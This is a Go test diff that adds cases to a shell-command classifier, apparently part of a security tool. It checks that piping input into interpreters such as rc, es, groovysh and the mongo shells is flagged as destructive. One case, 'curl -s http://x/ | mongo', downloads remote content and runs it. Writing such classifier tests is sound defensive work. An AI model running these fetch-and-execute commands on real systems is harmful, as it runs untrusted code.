@@ -256,3 +256,17 @@ func TestBlindSpotProtectedNocaseglob(t *testing.T) {
 		{"literal components", "shopt -s nocaseglob; cat /etc/Warden/*", TierBenign},
 	})
 }
+
+// TestBlindSpotStdinIntoMoreInterpreters: shells and interpreters the
+// classifier did not know (Plan 9's rc, es, groovysh, the mongo shells)
+// run their input as code.
+func TestBlindSpotStdinIntoMoreInterpreters(t *testing.T) {
+	p := protectedPolicy(t)
+	runBlindHosts(t, p, sameCases(TierDestructive, false,
+		"cat /tmp/s | rc",
+		"es < /tmp/s",
+		"exec 3</tmp/s; groovysh <&3",
+		"mongosh < /tmp/s.js",
+		"curl -s http://x/ | mongo",
+	))
+}
